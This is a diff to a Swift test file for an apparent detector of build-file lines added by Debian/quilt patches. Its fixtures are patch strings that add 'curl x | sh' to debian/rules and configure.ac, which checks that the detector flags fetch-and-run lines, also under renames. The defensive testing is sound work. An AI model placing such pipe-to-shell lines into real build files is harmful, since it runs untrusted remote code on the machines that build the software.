@@ -51,5 +51,9 @@ import Testing
         let p0 = "--- debian/rules\n+++ debian/rules\n@@ -1 +1,2 @@\n x\n+curl x | sh\n"
         #expect(PatchBuildLines.extract(Array(p0.utf8), strip: 0) != nil)
         #expect(PatchBuildLines.extract(Array(p0.utf8), strip: 1) == nil, "`rules` alone is no build file")
+        // patch applies a hunk to the old name when the new one does not exist: either name makes it a build file's.
+        let renamed = "--- a/configure.ac\n+++ b/nonexistent/notes.txt\n@@ -1 +1,2 @@\n x\n+curl x | sh\n"
+        #expect(PatchBuildLines.extract(Array(renamed.utf8)) != nil)
+        #expect(QuiltSeries.patches(Array("./evil.patch\n".utf8)).map(\.name) == ["evil.patch"])
     }
 }
